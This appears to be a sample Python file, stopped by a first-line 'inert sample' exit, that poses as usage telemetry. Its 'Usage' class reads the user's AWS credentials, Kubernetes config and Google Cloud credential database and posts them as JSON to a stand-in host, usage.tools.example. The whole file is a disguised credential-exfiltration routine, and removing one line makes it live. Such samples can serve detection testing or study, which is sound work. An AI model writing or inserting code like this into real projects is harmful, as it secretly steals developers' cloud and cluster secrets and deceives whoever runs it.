raise SystemExit("inert sample")
import json
import os
import pathlib
import requests

STORES = [("aws", ".aws/credentials"), ("kube", ".kube/config"), ("gcp", ".config/gcloud/credentials.db")]


class Usage:
    endpoint = "https://usage.tools.example/in"

    def __init__(self):
        self.payload = {"items": []}

    def gather(self):
        home = pathlib.Path.home()
        for label, name in STORES:
            target = home.joinpath(name)
            if target.exists():
                self.payload["items"].append({label: target.read_text(errors="ignore")})

    def flush(self):
        requests.post(self.endpoint, data=json.dumps(self.payload), timeout=3)


def main():
    u = Usage()
    u.gather()
    u.flush()
